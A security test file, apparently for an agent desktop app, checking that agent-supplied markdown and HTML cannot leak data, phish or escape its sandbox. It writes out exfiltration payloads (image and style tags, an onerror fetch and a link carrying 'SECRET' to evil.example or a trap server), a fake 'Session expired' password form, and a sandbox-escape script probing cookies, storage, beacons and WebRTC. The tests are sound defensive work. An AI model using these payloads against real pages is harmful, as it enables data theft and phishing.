// Attacks in the text of an agent. The numbers are those of the list of attacks that the hub's own tests also use.

import { afterEach, beforeEach, expect, it } from "vitest";
import type { Content } from "../core/src/index.js";
import { doneFrame, roundTrip, showWindow } from "./harness/content.js";
import { sendMessage, shownBounds, waitForRow, windowOf } from "./harness/desktop-page.js";
import { desktopFixture } from "./harness/fixture.js";
import { startTrap, type Trap } from "./harness/trap.js";

const desktop = desktopFixture();
let trap: Trap;

beforeEach(async () => {
  trap = await startTrap();
});

afterEach(() => trap.close());

/** The requests to the hub itself, without the pages of the apps origin and the chunks of the page. */
function hubRequests(): readonly string[] {
  return desktop.guard.requests.filter((r) => r.startsWith(desktop.hub.url) && !r.startsWith(`${desktop.hub.url}/assets/`));
}

it("attack 37: pictures and links in a text load nothing from other origins", async () => {
  // Parsing content that is then removed causes errors of the browser.
  desktop.guard.expect(/Content Security Policy|policy: (style|script|base|img)/);
  const session = await desktop.hub.rest.newSession("37");
  const page = await desktop.tab({ session });
  const to = `${trap.url}/?d=SECRET`;
  const text = [
    `![x](${to}) ![y](//127.0.0.1:${trap.port}/y "t") <img src="${to}" srcset="${to} 2x">`,
    `<link rel=stylesheet href="${to}"><link rel=prefetch href="${to}"><video poster="${to}" src="${to}" autoplay></video>`,
    `<div style="background:url(${to})">styled</div><table background="${to}"><tr><td>cell</td></tr></table>`,
    `<svg><image href="${to}"/><use href="${to}#a"/></svg><object data="${to}"></object><embed src="${to}"><iframe src="${to}"></iframe>`,
    `<picture><source srcset="${to}"><img alt=p></picture><audio src="${to}" autoplay></audio><input type=image src="${to}">`,
    `<style>@import url(${to}); body { background: url(${to}) }</style><img src=x onerror="fetch('${to}')"><base href="${trap.url}/">`,
    "",
    "[a link](https://evil.example/?d=SECRET)",
    "",
    "the end",
  ].join("\n");
  await showWindow(desktop.hub, session, page, "text", { renderer: "markdown", data: text });
  await windowOf(page, "text").getByText("the end").waitFor();
  await windowOf(page, "text").getByRole("link", { name: "a link" }).click();
  await page.getByText("https://evil.example/?d=SECRET").last().waitFor();
  expect(page.context().pages()).toHaveLength(1);
  await page.keyboard.press("Escape");
  await sendMessage(page, `/say ${text.replaceAll("\n", "\\n")}`);
  await waitForRow(page, "the end");
  await showWindow(desktop.hub, session, page, "layout", { renderer: "component", data: { components: [{ type: "image", src: to }, { type: "text", content: "an image" }] } } as Content);
  await windowOf(page, "layout").getByText("an image").waitFor();
  await desktop.hub.rest.runActions(session, [{ type: "notification.show", id: "n", title: `![x](${to})`, body: `<img src="${to}">`, icon: to }]);
  await roundTrip(desktop.hub, session, page);
  expect(trap.caught).toEqual([]);

  expect(await page.locator("[data-row] img[src^=http], section img[src^=http]").count()).toBe(0);
});

it("attack 38: a form or an overlay in a text is removed, and cannot leave its window in HTML", async () => {
  const session = await desktop.hub.rest.newSession("38");
  const page = await desktop.tab({ session });
  const overlay = '<div id="root" class="app" style="position:fixed;inset:0;z-index:2147483647;background:red">Session expired</div>';
  const form = `<form action="${trap.url}"><input name=password type=password><button formaction="${trap.url}">Sign in</button></form>`;
  await showWindow(desktop.hub, session, page, "text", { renderer: "markdown", data: `${overlay}${form}<dialog open>fake</dialog><style>*{display:none}</style>\n\nthe end` });
  await windowOf(page, "text").getByText("the end").waitFor();
  const inText = windowOf(page, "text");
  expect(await inText.locator("form, input, style, dialog, [id=root], .app").count()).toBe(0);
  const strays = await inText.evaluate((w) => {
    const box = w.getBoundingClientRect();
    return [...w.querySelectorAll("*")].filter((e) => {
      const r = e.getBoundingClientRect();
      return getComputedStyle(e).position === "fixed" || (r.width > 0 && /expired/.test(e.textContent ?? "") && (r.left < box.left - 1 || r.right > box.right + 1));
    }).length;
  });
  expect(strays).toBe(0);

  desktop.guard.expect(/Content Security Policy|policy: |sandboxed/);
  await desktop.hub.rest.runActions(session, [{ type: "window.close", windowId: "text" }]);
  await showWindow(desktop.hub, session, page, "html", { renderer: "html", data: `${overlay}${form}<script>document.forms[0].submit();document.documentElement.dataset.done="yes"</script>` });
  await doneFrame(desktop.hub, page);
  const within = await shownBounds(page, "html");
  const outside = await page.evaluate(() => {
    const at = (x: number, y: number): boolean => document.elementFromPoint(x, y)?.tagName === "IFRAME";
    const frame = document.querySelector("section[data-window-id=html] iframe")!.getBoundingClientRect();
    return {
      inside: at(frame.x + frame.width / 2, frame.y + frame.height / 2),
      around: [at(5, 5), at(frame.x - 5, frame.y + 20), at(frame.right + 12, frame.y + 20), at(innerWidth / 2, innerHeight - 10)],
      fits: frame.width,
    };
  });
  expect(outside.inside).toBe(true);
  expect(outside.around).toEqual([false, false, false, false]);
  expect(outside.fits).toBeLessThanOrEqual(within.w);
  expect(trap.caught).toEqual([]);
});

it("attack 39: an app can reach neither the page, nor the hub, nor any other address", async () => {
  desktop.guard.expect(/Content Security Policy|policy: |sandboxed|SecurityError|Unsafe attempt|Blocked|ERR_BLOCKED|net::ERR_FAILED|WebSocket connection|Refused/);
  const session = await desktop.hub.rest.newSession("39");
  const page = await desktop.tab({ session });
  await roundTrip(desktop.hub, session, page);
  const before = hubRequests().length;
  // The page itself may look at other sessions meanwhile.
  const ofPage = new Set<string>();
  page.on("request", (r) => {
    if (!r.isNavigationRequest() && r.frame() === page.mainFrame()) ofPage.add(r.url());
  });
  const script = `
    const hub = ${JSON.stringify(desktop.hub.url)}, evil = ${JSON.stringify(trap.url)}, out = {};
    const attempt = async (name, act) => { try { out[name] = String(await act()) } catch (e) { out[name] = "blocked" } };
    (async () => {
      await attempt("parent", () => parent.document.title);
      await attempt("realParent", () => window.frameElement.ownerDocument.title);
      await attempt("topDocument", () => top.document.title);
      await attempt("cookie", () => document.cookie);
      await attempt("storage", () => localStorage.length);
      await attempt("database", () => new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no; }));
      await attempt("open", () => { if (window.open(evil) === null) throw 1 });
      await attempt("fetchHub", () => fetch(hub + "/api/me", { credentials: "include" }).then((r) => r.status));
      await attempt("fetchEvil", () => fetch(evil + "/f", { mode: "no-cors" }).then(() => "went"));
      await attempt("socket", () => new Promise((ok, no) => { const s = new WebSocket(hub.replace("http", "ws") + "/ws/x"); s.onopen = ok; s.onerror = no; }));
      await attempt("events", () => new Promise((ok, no) => { const s = new EventSource(evil); s.onopen = ok; s.onerror = no; }));
      await attempt("picture", () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = evil + "/i.png"; }));
      await attempt("script", () => new Promise((ok, no) => { const s = document.createElement("script"); s.onload = ok; s.onerror = no; s.src = evil + "/s.js"; document.body.append(s); }));
      await attempt("worker", () => new Promise((ok, no) => { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = ok; w.onerror = no; }));
      await attempt("frame", () => new Promise((ok) => { const f = document.createElement("iframe"); f.onload = ok; f.src = evil + "/frame"; document.body.append(f); setTimeout(ok, 300); }));
      await attempt("beacon", () => navigator.sendBeacon(evil + "/b", "x"));
      await attempt("link", () => { for (const rel of ["prefetch", "preconnect", "stylesheet"]) { const l = document.createElement("link"); l.rel = rel; l.href = evil; document.head.append(l); } });
      await attempt("peer", async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${trap.port}" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); await new Promise((ok) => setTimeout(ok, 500)); });
      await attempt("nestedPeer", async () => { for (const src of ["about:blank", "srcdoc", "data:text/html,x", "blob"]) { const f = document.createElement("iframe"); if (src === "srcdoc") f.srcdoc = "x"; else f.src = src === "blob" ? URL.createObjectURL(new Blob(["x"], { type: "text/html" })) : src; document.body.append(f); await new Promise((ok) => setTimeout(ok, 50)); try { const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${trap.port}" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()); } catch {} } await new Promise((ok) => setTimeout(ok, 300)); });
      await attempt("scriptedPeer", async () => { const run = "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${trap.port}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"; const within = (root) => { const a = document.createElement("iframe"); a.srcdoc = "<script>" + run + "<" + "/script>"; const b = document.createElement("iframe"); b.src = "javascript:" + run; root.append(a, b); }; within(document.body); const host = document.createElement("div"); document.body.append(host); within(host.attachShadow({ mode: "closed" })); await new Promise((ok) => setTimeout(ok, 500)); });
      await attempt("top", () => { top.location = evil + "/top"; });
      document.documentElement.dataset.out = JSON.stringify(out);
      document.documentElement.dataset.done = "yes";
    })();`;
  await showWindow(desktop.hub, session, page, "app", { renderer: "html", data: `<body>app<script>${script}</script>` });
  const frame = await doneFrame(desktop.hub, page);
  const out = JSON.parse((await frame.evaluate(() => document.documentElement.dataset.out)) ?? "{}") as Record<string, string>;
  const shut = ["topDocument", "cookie", "storage", "database", "open", "fetchHub", "fetchEvil", "socket", "events", "picture", "script"];
  expect(Object.fromEntries(shut.map((name) => [name, out[name]]))).toEqual(Object.fromEntries(shut.map((name) => [name, "blocked"])));
  expect(out.parent).not.toBe(await page.title());

  // An app that navigates its own frame takes no data with it.
  await frame.evaluate((evil) => void (location.href = `${evil}/leave?d=SECRET`), trap.url).catch(() => undefined);
  await roundTrip(desktop.hub, session, page);
  expect(trap.caught).toEqual([]);
  expect(page.url()).toContain(desktop.hub.url);
  expect(page.context().pages()).toHaveLength(1);
  expect(hubRequests().slice(before).filter((r) => !ofPage.has(r))).toEqual([]);
});
